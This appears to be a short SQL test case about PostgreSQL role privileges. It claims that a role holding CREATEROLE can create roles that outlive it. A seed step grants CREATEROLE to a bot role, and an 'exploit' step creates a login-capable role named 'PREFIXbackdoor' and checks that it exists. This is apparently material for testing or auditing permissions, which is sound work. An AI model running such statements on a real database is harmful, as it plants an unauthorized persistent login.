-- about: CREATEROLE: the role makes roles that outlive it
-- claim: create-role CREATE the server
-- seed
ALTER ROLE PREFIXbot CREATEROLE;
-- exploit
CREATE ROLE PREFIXbackdoor LOGIN;
SELECT true FROM pg_catalog.pg_roles WHERE rolname = 'PREFIXbackdoor' AND rolcanlogin;
